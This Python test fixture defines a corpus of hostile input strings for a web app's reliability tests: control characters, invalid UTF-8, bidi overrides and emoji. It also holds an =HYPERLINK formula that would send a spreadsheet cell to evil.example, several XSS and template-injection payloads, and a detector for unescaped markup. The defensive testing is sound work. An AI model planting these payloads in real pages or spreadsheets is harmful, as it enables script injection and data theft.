"""The hostile text corpus: what people paste, what attackers send, and what must survive.

Each entry has a name (used in test reports) and the text as Python holds it.
Some texts cannot travel as UTF-8 (lone surrogates) or are not text at all
(invalid UTF-8): `raw` is what a transport that carries bytes sends instead,
so that forms receive percent-encoded invalid UTF-8 and CSV files hold
invalid bytes, while JSON carries the surrogate as a `\\ud800` escape.

Used by tests/reliability/test_hostile_text.py and bench/hostile.py.
"""

from __future__ import annotations

import html
import json
import re
from dataclasses import dataclass
from urllib.parse import quote_from_bytes

from werkzeug.test import EnvironBuilder
from werkzeug.wrappers import Request

# Every C0 control, in a sentence (a tab, a newline and a CR among them).
_C0 = "".join(chr(c) for c in range(0x20))
# DEL and every C1 control (NEL, U+0085, is a line break some editors write).
_C1 = "\x7f" + "".join(chr(c) for c in range(0x80, 0xA0))


@dataclass(frozen=True)
class Entry:
    name: str
    text: str
    raw: bytes | None = None  # what byte transports send, when `text` cannot be UTF-8

    def utf8(self) -> bytes:
        """The bytes a form or a CSV file carries (lone surrogates as their invalid UTF-8)."""
        return self.raw if self.raw is not None else self.text.encode("utf-8", "surrogatepass")

    def form_value(self) -> str:
        """The percent-encoded value of a form body (invalid UTF-8 stays invalid)."""
        return quote_from_bytes(self.utf8(), safe="")

    def json_value(self) -> str:
        """A JSON string literal: lone surrogates as \\ud800 escapes, raw bytes left raw."""
        return json.dumps(self.text)

    def valid_utf8(self) -> bool:
        try:
            self.utf8().decode("utf-8")
        except UnicodeDecodeError:
            return False
        return True


CORPUS: tuple[Entry, ...] = (
    Entry("nul", "健身\x00器材损坏"),
    Entry("c0-controls", f"控制{_C0}字符"),
    Entry("del-c1-controls", f"删除{_C1}字符"),
    Entry("word-vt-ff", "第一行\x0b第二行\x0c第三段，已经很久了"),
    Entry("cr-lf-mixes", "一行\r\n二行\r三行\n\r四行\u2028五行\u2029六行\x85七行"),
    Entry("lone-surrogate", "前\ud800后\udfff"),
    Entry("invalid-utf8", "前\ufffd后", raw=b"\xe5\x89\x8d\xff\xc0\xaf\xe5\x90\x8e"),
    Entry("noncharacters", "非字符\ufffe\uffff\ufdd0结束"),
    Entry("bidi-overrides", "文件\u202a\u202b\u202c\u202d\u202egpj.exe"),
    Entry("bidi-isolates", "隔离\u2066左\u2067右\u2068首\u2069结束"),
    Entry("ten-thousand", "长" * 10_000),
    Entry("emoji-zwj", "一家人👨\u200d👩\u200d👧\u200d👦都满意👍🏽"),
    Entry("flags", "🇨🇳🇭🇰🇲🇴🏳️\u200d🌈"),
    Entry("formula-hyperlink", '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'),
    Entry("formula-plus", "+1"),
    Entry("formula-minus", "-1+2"),
    Entry("formula-at", "@SUM(1)"),
    Entry("formula-behind-spaces", "  =1+1"),
    Entry("formula-behind-tab", "\t=2+2"),
    Entry("xss-script", "<script>alert(1)</script>"),
    Entry("xss-attribute", '"><img src=x onerror=alert(1)>'),
    Entry("xss-javascript-url", "javascript:alert(1)"),
    Entry("xss-url-breaking-out", 'https://evil.example/"><script>alert(1)</script>'),
    Entry("template-injection", "{{7*7}}{% raw %}${7*7}"),
    Entry("format-strings", "%s %(number)s {0} %n %%"),
    Entry("other-digits", "²³١٢٣"),
    Entry("whitespace-only", " \t\u3000\u00a0 "),
    Entry("zero-width", "零\u200b宽\u200d字\ufeff符"),
    Entry("mobile-number", "请打13912345678联系我"),
    Entry("chinese", "路灯不亮两周了，请尽快修复！（谢谢）“急”"),  # fits a name field too
)

BY_NAME = {entry.name: entry for entry in CORPUS}
CHINESE = BY_NAME["chinese"]
# Text that must never be public: the names and numbers of everyone in the corpus runs.
CANARY_NAME, CANARY_PHONE = "金丝雀甲乙丙", "13766661111"
CANARIES = (CANARY_NAME, CANARY_PHONE, "137 6666 1111")


def received_by_form(entry: Entry) -> str:
    """What a form field holds once Werkzeug has parsed the body (it keeps invalid UTF-8
    as its percent escapes)."""
    environ = EnvironBuilder(
        method="POST",
        data=f"v={entry.form_value()}",
        content_type="application/x-www-form-urlencoded",
    ).get_environ()
    return Request(environ).form.get("v", "")


# What an XSS payload of the corpus looks like when a page failed to escape it.
UNESCAPED = ("<script>alert(1)", "<img src=x onerror=alert(1)")
_URL_ATTRIBUTE = re.compile(
    r"""\b(?:href|src|action|formaction)\s*=\s*(?:"([^"]*)"|'([^']*)')""", re.I
)


def unsafe_html(body: str) -> list[str]:
    """Where an HTML page would run a corpus payload: unescaped, or as a javascript: link."""
    found = [f"unescaped {marker!r}" for marker in UNESCAPED if marker in body]
    for match in _URL_ATTRIBUTE.finditer(body):
        value = html.unescape(match[1] if match[1] is not None else match[2])
        scheme = "".join(ch for ch in value if not ch.isspace() and ord(ch) > 31).lower()
        if scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
            found.append(f"script URL {value[:60]!r}")
    return found
